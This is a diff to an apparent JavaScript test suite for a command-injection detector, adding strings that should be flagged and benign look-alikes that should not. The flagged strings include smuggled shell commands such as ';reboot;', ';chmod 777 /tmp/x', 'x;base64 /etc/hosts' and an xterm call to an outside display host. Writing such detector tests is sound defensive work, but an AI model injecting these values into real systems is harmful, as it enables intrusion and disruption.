@@ -31,6 +31,12 @@ describe('command_injection, how commands are spelled', () => {
     '$(expr 41 \\* 271)',
     '`expr 5 + 5`',
     ';expr 123 + 321',
+    '";reboot;"',
+    '|sleep 5 #',
+    ';xterm -display 192.0.2.9:1',
+    '&dir c:\\',
+    '&type C:\\x',
+    'x;base64 /etc/hosts',
     ';chmod 777 /tmp/x',
     '@(id)',
     '--upload-pack=touch /tmp/x',
@@ -90,5 +96,9 @@ describe('command_injection, how commands are spelled', () => {
     '--upload the file',
     'sizes {id, name, date}',
     'read & write; find or replace',
+    'update; reboot; done',
+    'save your work; poweroff; go home',
+    'data:image/jpeg;base64,/9j/4AAQSkZJRgABAQEAYABgAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsL',
+    'TERM=xterm-256color; LANG=C',
   ]);
 });
